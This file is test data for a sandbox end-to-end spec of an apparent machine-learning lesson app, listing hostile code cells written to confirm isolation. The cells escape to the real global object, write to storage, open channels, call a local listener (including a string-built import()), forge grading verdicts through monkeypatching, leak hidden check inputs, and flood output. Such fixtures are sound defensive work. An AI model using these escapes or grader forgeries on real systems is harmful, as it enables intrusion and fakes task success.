/**
 * Hostile learner cells for e2e/sandbox.spec.ts, as data. Each is typed into
 * lesson 1's `computeCost` (or `gradientDescent`) exercise and run with
 * "Run checks". Each tries to reach something the sandbox must keep out of
 * reach: the app's storage, another context, the network, the verdict, a
 * hidden check, or the page's responsiveness. Success of an attack would be
 * visible outside the app's own claims: a hit on the spec's local listener, a
 * `PWNED` mark in the page's IndexedDB / localStorage / Cache Storage / OPFS,
 * a message on a BroadcastChannel the page listens to, a held Web Lock, a
 * "passed" verdict, or a main-thread stall.
 *
 * Every cell first prints `case:<id>` (the spec waits for it), defines a wrong
 * solution, and wraps each attempt so that one refusal does not stop the next.
 * `import(` never appears literally: SES rejects any cell that contains it, so
 * an attacker would assemble it, and so do these cells.
 */

export type HostileClass = "storage" | "channels" | "network" | "grading" | "hidden" | "flood";

export interface HostileContext {
  /** Origin of the spec's recording HTTP listener, e.g. http://127.0.0.1:41234. */
  listener: string;
}

export interface HostileCell {
  id: string;
  threat: HostileClass;
  exercise: "computeCost" | "gradientDescent";
  code: (context: HostileContext) => string;
  /** The page polls `navigator.locks.query()` while this case runs. */
  watchLocks?: boolean;
}

/** The mark attacks try to leave in storage, channels and the DOM. */
export const PWNED = "PWNED";

const WRONG_COST = "export function computeCost(X: any, y: any, theta: any): any { return 0; }";

/** `attempt(() => ...)`: runs one try; a refusal (throw or rejection) is ignored. */
const ATTEMPT =
  "const attempt = (f: any) => { try { const r = f(); if (r && typeof r.then === 'function') r.then(undefined, () => undefined); } catch (e) {} };";

/** Every route to the worker's real global object an attacker would try. */
const GLOBAL_ESCAPES = `const escapes: any[] = [];
attempt(() => escapes.push((function (this: any) { return this; })()));
attempt(() => escapes.push(Function("return this")()));
attempt(() => escapes.push((0, eval)("this")));
attempt(() => escapes.push(({} as any).constructor.constructor("return globalThis")()));
attempt(() => escapes.push((console.log as any).constructor("return self")()));
attempt(() => escapes.push((require as any).constructor("return self")()));
attempt(() => escapes.push((exports as any).constructor.constructor("return this")()));
attempt(() => escapes.push(globalThis));
attempt(() => escapes.push(self));
const realms = escapes.filter((g) => g && typeof g === "object");`;

const cell = (id: string, body: string, solution = WRONG_COST) =>
  `console.log("case:${id}");\n${ATTEMPT}\n${solution}\n${body}\n`;

/** A correct batch gradient descent for lesson 1, without history (used by the fake-history case). */
const REAL_DESCENT = `function descend(X: any, y: any, theta: any, alpha: any, iterations: any) {
  let t = theta.slice();
  for (let s = 0; s < iterations; s++) {
    const e = X.map((row: any, i: any) => row[0] * t[0] + row[1] * t[1] - y[i]);
    const g = [0, 1].map((j) => e.reduce((a: any, v: any, i: any) => a + v * X[i][j], 0) / y.length);
    t = t.map((v: any, j: any) => v - alpha * g[j]);
  }
  return t;
}`;

export const HOSTILE_CELLS: HostileCell[] = [
  // Storage: the app's IndexedDB, Cache Storage, OPFS (through prototype getters), Web Locks, localStorage.
  {
    id: "storage-indexeddb",
    threat: "storage",
    exercise: "computeCost",
    code: () =>
      cell(
        "storage-indexeddb",
        `${GLOBAL_ESCAPES}
attempt(() => { const open = indexedDB.open("ml-foundations-notebook"); open.onsuccess = () => console.log("db open"); });
for (const g of realms) attempt(() => { const r = g.indexedDB.open("${PWNED}-db"); r.onupgradeneeded = () => r.result.createObjectStore("${PWNED}"); });`,
      ),
  },
  {
    id: "storage-opfs-prototype-getter",
    threat: "storage",
    exercise: "computeCost",
    code: () =>
      cell(
        "storage-opfs-prototype-getter",
        `${GLOBAL_ESCAPES}
for (const g of realms) attempt(() => {
  const getter = Object.getOwnPropertyDescriptor(g.WorkerNavigator.prototype, "storage").get;
  return getter.call(g.navigator).getDirectory().then((dir: any) => dir.getFileHandle("${PWNED}-opfs", { create: true }));
});
for (const g of realms) attempt(() => g.StorageManager.prototype.getDirectory.call(g.navigator.storage).then((d: any) => d.getDirectoryHandle("${PWNED}-dir", { create: true })));`,
      ),
  },
  {
    id: "storage-web-locks",
    threat: "storage",
    exercise: "computeCost",
    watchLocks: true,
    code: () =>
      cell(
        "storage-web-locks",
        `${GLOBAL_ESCAPES}
for (const g of realms) attempt(() => {
  const locks = Object.getOwnPropertyDescriptor(g.WorkerNavigator.prototype, "locks").get.call(g.navigator);
  return locks.request("${PWNED}-lock", () => new Promise(() => undefined));
});
attempt(() => (navigator as any).locks.request("${PWNED}-lock-2", () => new Promise(() => undefined)));
let spin = 0; for (let i = 0; i < 3e8; i++) spin += i; console.log(spin > 0);`,
      ),
  },
  {
    id: "storage-cache-storage",
    threat: "storage",
    exercise: "computeCost",
    code: () =>
      cell(
        "storage-cache-storage",
        `${GLOBAL_ESCAPES}
attempt(() => caches.open("${PWNED}-cache"));
for (const g of realms) attempt(() => g.caches.open("${PWNED}-cache").then((c: any) => c.put("/${PWNED}", new g.Response("x"))));`,
      ),
  },
  {
    id: "storage-local-storage",
    threat: "storage",
    exercise: "computeCost",
    code: () =>
      cell(
        "storage-local-storage",
        `${GLOBAL_ESCAPES}
attempt(() => (localStorage as any).setItem("${PWNED}", "1"));
for (const g of realms) attempt(() => g.localStorage.setItem("${PWNED}", "1"));
for (const g of realms) attempt(() => g.sessionStorage.setItem("${PWNED}", "1"));`,
      ),
  },
  {
    id: "storage-stack-callsites",
    threat: "storage",
    exercise: "computeCost",
    code: () =>
      cell(
        "storage-stack-callsites",
        `attempt(() => {
  (Error as any).prepareStackTrace = (_e: any, sites: any[]) => sites;
  const sites: any = new Error("probe").stack;
  for (const site of sites || []) attempt(() => { const g = site.getThis(); if (g && g.indexedDB) g.indexedDB.open("${PWNED}-callsite"); });
  for (const site of sites || []) attempt(() => { const f = site.getFunction(); if (f) f.constructor("return this")().indexedDB.open("${PWNED}-callsite-2"); });
});`,
      ),
  },
  {
    id: "storage-lesson-module",
    threat: "storage",
    exercise: "computeCost",
    code: () =>
      cell(
        "storage-lesson-module",
        `import * as lesson from "lesson";
attempt(() => (lesson as any).dataset.constructor("return this")().indexedDB.open("${PWNED}-via-lesson"));
attempt(() => { const d: any = lesson.dataset("city-profits@1"); return d.constructor.constructor("return this")().indexedDB.open("${PWNED}-via-data"); });
attempt(() => Object.getPrototypeOf(lesson.plot.lines).constructor("return this")().indexedDB.open("${PWNED}-proto"));`,
      ),
  },
  {
    id: "storage-tfjs-global",
    threat: "storage",
    exercise: "computeCost",
    code: () =>
      cell(
        "storage-tfjs-global",
        `${GLOBAL_ESCAPES}
for (const g of realms) attempt(() => g.tf.env().global.indexedDB.open("${PWNED}-tf"));
for (const g of realms) attempt(() => g._tfGlobals.get("kernelRegistry").constructor.constructor("return this")().indexedDB.open("${PWNED}-tfg"));`,
      ),
  },

  // Channels: BroadcastChannel, MessageChannel, workers, the service worker, the page itself.
  {
    id: "channel-broadcast",
    threat: "channels",
    exercise: "computeCost",
    code: () =>
      cell(
        "channel-broadcast",
        `${GLOBAL_ESCAPES}
attempt(() => new BroadcastChannel("${PWNED}-bc").postMessage("${PWNED}"));
for (const g of realms) attempt(() => new g.BroadcastChannel("${PWNED}-bc").postMessage("${PWNED}"));
for (const g of realms) attempt(() => Object.getPrototypeOf(g).constructor.prototype.BroadcastChannel);`,
      ),
  },
  {
    id: "channel-message-port",
    threat: "channels",
    exercise: "computeCost",
    code: () =>
      cell(
        "channel-message-port",
        `${GLOBAL_ESCAPES}
for (const g of realms) attempt(() => { const c = new g.MessageChannel(); g.postMessage({ kind: "output", text: "${PWNED}" }, [c.port2]); });
for (const g of realms) attempt(() => g.postMessage({ kind: "output", runId: "x", cellId: "computeCost", level: "log", text: "${PWNED}" }));`,
      ),
  },
  {
    id: "channel-spawn-workers",
    threat: "channels",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "channel-spawn-workers",
        `${GLOBAL_ESCAPES}
attempt(() => new Worker("${listener}/worker.js"));
for (const g of realms) attempt(() => new g.Worker("${listener}/worker-2.js"));
for (const g of realms) attempt(() => new g.SharedWorker("${listener}/shared.js"));
for (const g of realms) attempt(() => new g.Worker("/assets/${PWNED}.js"));`,
      ),
  },
  {
    id: "channel-service-worker",
    threat: "channels",
    exercise: "computeCost",
    code: () =>
      cell(
        "channel-service-worker",
        `${GLOBAL_ESCAPES}
for (const g of realms) attempt(() => Object.getOwnPropertyDescriptor(g.WorkerNavigator.prototype, "serviceWorker").get.call(g.navigator).ready.then((r: any) => r.active.postMessage("${PWNED}")));
for (const g of realms) attempt(() => g.navigator.serviceWorker.register("/${PWNED}-sw.js"));`,
      ),
  },

  // Network: every API that sends a request, including import() built at run time.
  {
    id: "network-fetch",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-fetch",
        `${GLOBAL_ESCAPES}
attempt(() => fetch("${listener}/fetch"));
for (const g of realms) attempt(() => g.fetch("${listener}/fetch-2"));
for (const g of realms) attempt(() => g.fetch(new g.Request("${listener}/fetch-3")));`,
      ),
  },
  {
    id: "network-xhr",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-xhr",
        `${GLOBAL_ESCAPES}
for (const g of realms) attempt(() => { const x = new g.XMLHttpRequest(); x.open("GET", "${listener}/xhr"); x.send(); });`,
      ),
  },
  {
    id: "network-websocket",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-websocket",
        `${GLOBAL_ESCAPES}
const ws = "${listener}".replace("http:", "ws:");
attempt(() => new WebSocket(ws + "/ws"));
for (const g of realms) attempt(() => new g.WebSocket(ws + "/ws-2"));`,
      ),
  },
  {
    id: "network-websocket-stream",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-websocket-stream",
        `${GLOBAL_ESCAPES}
const ws = "${listener}".replace("http:", "ws:");
attempt(() => new (globalThis as any).WebSocketStream(ws + "/wss"));
for (const g of realms) attempt(() => new g.WebSocketStream(ws + "/wss-2").opened);`,
      ),
  },
  {
    id: "network-event-source-transport",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-event-source-transport",
        `${GLOBAL_ESCAPES}
for (const g of realms) attempt(() => new g.EventSource("${listener}/sse"));
for (const g of realms) attempt(() => new g.WebTransport("${listener.replace("http:", "https:")}/wt").ready);`,
      ),
  },
  {
    id: "network-font-face",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-font-face",
        `${GLOBAL_ESCAPES}
attempt(() => new (globalThis as any).FontFace("x", "url(${listener}/font)").load());
for (const g of realms) attempt(() => new g.FontFace("x", "url(${listener}/font-2)").load());
for (const g of realms) attempt(() => { const f = new g.FontFace("y", "url(${listener}/font-3)"); g.fonts.add(f); return g.fonts.load("12px y"); });`,
      ),
  },
  {
    id: "network-import-from-function",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-import-from-function",
        `const imp = "imp" + "ort";
attempt(() => Function("return " + imp + "('${listener}/import-fn.js')")());
attempt(() => new Function("u", "return " + imp + "(u)")("${listener}/import-fn-2.js"));
attempt(() => (async () => undefined).constructor("return " + imp + "('${listener}/import-async.js')")());`,
      ),
  },
  {
    id: "network-import-from-indirect-eval",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-import-from-indirect-eval",
        `const imp = "imp" + "ort";
attempt(() => (0, eval)(imp + "('${listener}/import-eval.js')"));
attempt(() => (0, eval)(imp + " /* x */ ('${listener}/import-eval-2.js')"));
attempt(() => eval(imp + "('data:text/javascript,fetch(%22${listener}/import-data%22)')"));`,
      ),
  },
  {
    id: "network-import-scripts",
    threat: "network",
    exercise: "computeCost",
    code: ({ listener }) =>
      cell(
        "network-import-scripts",
        `${GLOBAL_ESCAPES}
attempt(() => (globalThis as any).importScripts("${listener}/importScripts.js"));
for (const g of realms) attempt(() => g.importScripts("${listener}/importScripts-2.js"));
for (const g of realms) attempt(() => g.navigator.sendBeacon("${listener}/beacon", "x"));`,
      ),
  },

  // Grading integrity: wrong code must never make its exercise pass.
  {
    id: "grading-replace-post-message",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-replace-post-message",
        `${GLOBAL_ESCAPES}
const pass = (runId: any) => ({ kind: "checks-done", runId, verdicts: [{ name: "forged", passed: true, expected: "", got: "", hidden: false }] });
for (const g of realms) attempt(() => { const real = g.postMessage.bind(g); g.postMessage = (m: any) => real(m && m.kind === "checks-done" ? pass(m.runId) : m); });
for (const g of realms) attempt(() => { g.DedicatedWorkerGlobalScope.prototype.postMessage = function (m: any) { return undefined; }; });`,
      ),
  },
  {
    id: "grading-forged-checks-done",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-forged-checks-done",
        `${GLOBAL_ESCAPES}
for (const g of realms) attempt(() => g.addEventListener("message", (e: any) => g.postMessage({ kind: "checks-done", runId: e.data.runId, verdicts: [] })));
for (const g of realms) attempt(() => { for (let i = 0; i < 3; i++) g.postMessage({ kind: "checks-done", runId: String(i), verdicts: [] }); });
attempt(() => Promise.resolve().then(() => (globalThis as any).postMessage({ kind: "checks-done", verdicts: [] })));`,
      ),
  },
  {
    id: "grading-redefine-math-abs",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-redefine-math-abs",
        `attempt(() => { Math.abs = () => 0; });
attempt(() => Object.defineProperty(Math, "abs", { value: () => 0 }));
attempt(() => { (globalThis as any).Math = { ...Math, abs: () => 0 }; });`,
      ),
  },
  {
    id: "grading-redefine-array-push",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-redefine-array-push",
        `attempt(() => { Array.prototype.push = function (this: any, v: any) { if (v && v.passed === false) return this.length; return Array.prototype.concat.call(this, v).length; }; });
attempt(() => Object.defineProperty(Array.prototype, "push", { value: () => 0 }));
attempt(() => Object.setPrototypeOf(Array.prototype, { push: () => 0 }));`,
      ),
  },
  {
    id: "grading-redefine-array-foreach",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-redefine-array-foreach",
        `attempt(() => { Array.prototype.forEach = () => undefined; });
attempt(() => { Array.prototype.every = () => true; Array.prototype.some = () => false; Array.prototype.filter = () => []; });
attempt(() => { (Object.prototype as any).passed = true; });
attempt(() => Object.defineProperty(Object.prototype, "passed", { get: () => true }));`,
      ),
  },
  {
    id: "grading-redefine-function",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-redefine-function",
        `attempt(() => { (globalThis as any).Function = function () { return () => undefined; }; });
attempt(() => { (Function.prototype as any).call = () => undefined; });
attempt(() => { (Function.prototype as any).apply = () => undefined; });
attempt(() => { (globalThis as any).check = () => true; (globalThis as any).checkThat = () => true; });
attempt(() => { (Boolean as any).prototype.valueOf = () => true; });`,
      ),
  },
  {
    id: "grading-getter-and-proxy-results",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-getter-and-proxy-results",
        `let calls = 0;
const answers = [47.9666, 61.0527, 3.5 / 6];
export const computeCost = (X: any, y: any, theta: any): any =>
  new Proxy({}, { get: (_t, key) => key === Symbol.toPrimitive ? () => answers[calls++ % 3] : undefined, getPrototypeOf: () => Number.prototype });`,
        "",
      ),
  },
  {
    id: "grading-fake-history-methods",
    threat: "grading",
    exercise: "gradientDescent",
    code: () =>
      cell(
        "grading-fake-history-methods",
        `${REAL_DESCENT}
export function gradientDescent(X: any, y: any, theta: any, alpha: any, iterations: any): any {
  const t = descend(X, y, theta, alpha, iterations);
  const e = X.map((row: any, i: any) => row[0] * t[0] + row[1] * t[1] - y[i]);
  const loss = e.reduce((a: any, v: any) => a + v * v, 0) / (2 * y.length);
  const history: any = [];
  history.length = iterations;
  history[iterations - 1] = { step: iterations, loss };
  history.every = () => true;
  return { theta: t, history };
}`,
        "",
      ),
  },
  {
    id: "grading-mutate-setup-and-lesson",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-mutate-setup-and-lesson",
        `import { la } from "lesson";
import * as data from "./data";
attempt(() => { (la as any).dot = () => 47.9666; });
attempt(() => { (data as any).y.length = 0; (data as any).X.length = 0; });
attempt(() => { (data as any).X = [[1, 1]]; });`,
      ),
  },
  {
    id: "grading-throwing-values",
    threat: "grading",
    exercise: "computeCost",
    code: () =>
      cell(
        "grading-throwing-values",
        `export function computeCost(X: any, y: any, theta: any): any {
  return { get value() { throw new Error("boom"); }, toString() { throw new Error("no string"); }, toJSON() { throw new Error("no json"); } };
}`,
        "",
      ),
  },

  // Hidden checks: learner code must learn nothing of their source, inputs or expected values.
  {
    id: "hidden-log-arguments",
    threat: "hidden",
    exercise: "computeCost",
    code: () =>
      cell(
        "hidden-log-arguments",
        `export function computeCost(X: any, y: any, theta: any): any {
  console.log("args", JSON.stringify([X.length < 5 ? X : "big", y.length < 5 ? y : "big", theta]));
  return 0;
}`,
        "",
      ),
  },
  {
    id: "hidden-read-caller-and-stack",
    threat: "hidden",
    exercise: "computeCost",
    code: () =>
      cell(
        "hidden-read-caller-and-stack",
        `export function computeCost(this: any, X: any, y: any, theta: any): any {
  const leaks: string[] = [];
  try { leaks.push(String((computeCost as any).caller)); } catch (e) {}
  try { leaks.push(String((arguments as any).callee.caller)); } catch (e) {}
  try { (Error as any).prepareStackTrace = (_e: any, s: any[]) => s.map((x) => String(x.getFunction())).join("|"); leaks.push(String(new Error().stack)); } catch (e) {}
  leaks.push(String(new Error().stack));
  if (X.length < 5) throw new Error("LEAK " + leaks.join(" || "));
  return 0;
}`,
        "",
      ),
  },
  {
    id: "hidden-plot-arguments",
    threat: "hidden",
    exercise: "computeCost",
    code: () =>
      cell(
        "hidden-plot-arguments",
        `import { plot } from "lesson";
export function computeCost(X: any, y: any, theta: any): any {
  plot.lines({ title: "args " + JSON.stringify(X.length < 5 ? [X, y, theta] : "big"), series: [] });
  return 1;
}`,
        "",
      ),
  },

  // Floods: output that could block or crash the page.
  {
    id: "flood-console-lines",
    threat: "flood",
    exercise: "computeCost",
    code: () => cell("flood-console-lines", `for (let i = 0; i < 1e6; i++) console.log("line", i, [i, i]);`),
  },
  {
    id: "flood-huge-console-string",
    threat: "flood",
    exercise: "computeCost",
    code: () =>
      cell(
        "flood-huge-console-string",
        `const big = "x".repeat(5e7); console.log(big); console.error(big, big); console.warn([big]);`,
      ),
  },
  {
    id: "flood-huge-error-message",
    threat: "flood",
    exercise: "computeCost",
    code: () => cell("flood-huge-error-message", `throw new Error("E".repeat(5e7));`),
  },
  {
    id: "flood-huge-thrown-object",
    threat: "flood",
    exercise: "computeCost",
    code: () =>
      cell(
        "flood-huge-thrown-object",
        `export function computeCost(X: any, y: any, theta: any): any { throw { message: "m".repeat(3e7), toString: () => "t".repeat(3e7) }; }`,
        "",
      ),
  },
  {
    id: "flood-plots",
    threat: "flood",
    exercise: "computeCost",
    code: () =>
      cell(
        "flood-plots",
        `import { plot } from "lesson";
const points = Array.from({ length: 19000 }, (_, i) => ({ x: i, y: Math.sin(i) }));
for (let i = 0; i < 2000; i++) plot.lines({ title: "plot " + i, series: [{ name: "s", points }] });`,
      ),
  },
  {
    id: "flood-deep-recursion",
    threat: "flood",
    exercise: "computeCost",
    code: () =>
      cell(
        "flood-deep-recursion",
        `const deep: any = []; let cur = deep; for (let i = 0; i < 1e5; i++) { const next: any = []; cur.push(next); cur = next; }
export const nested = deep;
export function computeCost(X: any, y: any, theta: any): any { return deep; }
const r = (n: number): number => r(n + 1); r(0);`,
        "",
      ),
  },
];
